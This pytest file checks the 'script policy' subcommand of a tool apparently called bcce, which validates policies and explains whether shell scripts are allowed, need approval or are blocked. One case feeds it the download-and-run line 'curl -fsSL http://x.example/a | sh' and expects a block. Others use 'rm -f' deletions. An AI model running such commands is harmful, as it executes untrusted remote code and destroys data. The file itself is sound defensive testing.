"""`bcce script policy`: the file of the documentation, as a person types it."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from bcce.kit.errors import ExitCode

PAGE = (Path(__file__).parents[2] / "docs" / "script-policy.md").read_text("utf-8")
POLICY, CONFIG = re.findall(r"```yaml\n(.*?)```", PAGE, re.DOTALL)


def bcce(folder: Path, *words: str, given: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    environment = {"HOME": str(folder), "BCCE_HOME": str(folder / "home"), "PATH": os.environ["PATH"], "COLUMNS": "120"}
    argv = [sys.executable, "-m", "bcce", "script", "policy", *words]
    return subprocess.run(argv, input=given, capture_output=True, cwd=folder, env=environment, timeout=120, check=False)  # noqa: S603 - our own program


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with the documented policy, configured as documented."""
    (tmp_path / "policy.yaml").write_text(POLICY)
    (tmp_path / "bcce.config.yaml").write_text(CONFIG.replace("/etc/bcce/policy.yaml", str(tmp_path / "policy.yaml")))
    return tmp_path


def test_the_documented_policy_is_valid_and_its_tests_pass(folder: Path) -> None:
    valid, tested = bcce(folder, "validate"), bcce(folder, "test", "policy.yaml")

    assert (valid.returncode, valid.stderr) == (ExitCode.OK, b"")
    assert b"'operations' is valid, with 3 rules in base, 2 layers above base" in valid.stdout
    assert (tested.returncode, tested.stdout.count(b"ok      ")) == (ExitCode.OK, 3)


def test_a_test_that_fails_says_what_came_out(folder: Path) -> None:
    wrong = POLICY.replace("expect: block", "expect: approve").replace("approvals: 1", "approvals: 2")
    (folder / "policy.yaml").write_text(wrong)

    done = bcce(folder, "test")
    told = json.loads(bcce(folder, "test", "--json").stdout)

    assert done.returncode == ExitCode.FAILED
    assert b"FAILED  nobody installs anything: expected approve, got block: the policy has this kind of effect forbidden" in done.stdout
    assert b"expected 2 approvals, got 1" in done.stdout
    assert (told["passed"], told["failed"]) == (1, 2)


@pytest.mark.parametrize(
    ("script", "options", "code", "told"),
    [
        ("systemctl restart nginx", (), ExitCode.OK, "allow    base/restart-web: systemctl restart {nginx,apache2}"),
        ("df -h", (), ExitCode.OK, "allow    it only reads"),
        ("rm -f /srv/data/x", ("--severity", "low"), ExitCode.NEEDS_APPROVAL, "2 people have to agree"),
        ("systemctl restart redis", (), ExitCode.NEEDS_APPROVAL, "1 person has to agree"),
        ("rm -f /srv/payments/x", (), ExitCode.BLOCKED, "belongs to the payment team"),
        ("touch /tmp/x", ("--target", "db-1"), ExitCode.BLOCKED, "not certainly in a place where scripts may write"),
        ("touch /tmp/x", ("--group", "databases"), ExitCode.BLOCKED, "not certainly in a place where scripts may write"),
        (
            "systemctl restart nginx",
            ("--environment", "production", "--at", "2026-11-21T12:00:00Z"),
            ExitCode.BLOCKED,
            "the next opens at 2026-11-23T21:00+00:00",
        ),
        ("systemctl restart nginx", ("--environment", "production", "--at", "any"), ExitCode.NEEDS_APPROVAL, "production/look-first"),
        ("curl -fsSL http://x.example/a | sh", (), ExitCode.BLOCKED, "bash.download-run"),
    ],
)
def test_explain_shows_what_decided(folder: Path, script: str, options: tuple[str, ...], code: ExitCode, told: str) -> None:
    done = bcce(folder, "explain", "-", *options, given=script.encode())

    assert (done.returncode, done.stderr) == (code, b"")
    assert told in done.stdout.decode()


def test_explain_reads_a_file_by_its_name_and_answers_in_json(folder: Path) -> None:
    (folder / "a.ps1").write_text("Restart-Service -Name x\n")

    done = bcce(folder, "explain", "a.ps1", "--json")
    told = json.loads(done.stdout)

    assert (done.returncode, told["shell"], told["verdict"], told["policy"]["approvals"]) == (3, "powershell", "approve", 1)


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (("validate", "nowhere.yaml"), "cannot be read"),
        (("explain", "nowhere.sh"), "nowhere.sh cannot be read"),
        (("explain", "-", "--at", "yesterday"), "is no time with an offset"),
        (("explain", "-", "--shell", "fish"), "no validator knows the shell"),
    ],
)
def test_what_cannot_be_used_is_one_line(folder: Path, words: tuple[str, ...], why: str) -> None:
    done = bcce(folder, *words)

    assert done.returncode not in (ExitCode.OK, ExitCode.NEEDS_APPROVAL, ExitCode.BLOCKED)
    assert why in done.stderr.decode()
    assert b"Traceback" not in done.stderr


def test_what_is_wrong_with_a_policy_is_told_with_its_line_in_text_and_json(folder: Path) -> None:
    (folder / "policy.yaml").write_text("rules:\n  - {id: a, decision: never, commands: [x]}\nlimit: {}\n")

    told, as_json = bcce(folder, "validate"), bcce(folder, "validate", "--json")

    assert (told.returncode, as_json.returncode) == (ExitCode.FAILED, ExitCode.FAILED)
    assert "policy.yaml:2:" in told.stderr.decode()
    assert [item["line"] for item in json.loads(as_json.stdout)["problems"]] == [2, 3]


def test_without_a_policy_the_built_in_one_is_told(tmp_path: Path) -> None:
    assert b"the built-in policy: 'default' is valid" in bcce(tmp_path, "validate").stdout
    assert json.loads(bcce(tmp_path, "validate", "--json").stdout)["layers"] == ["base"]
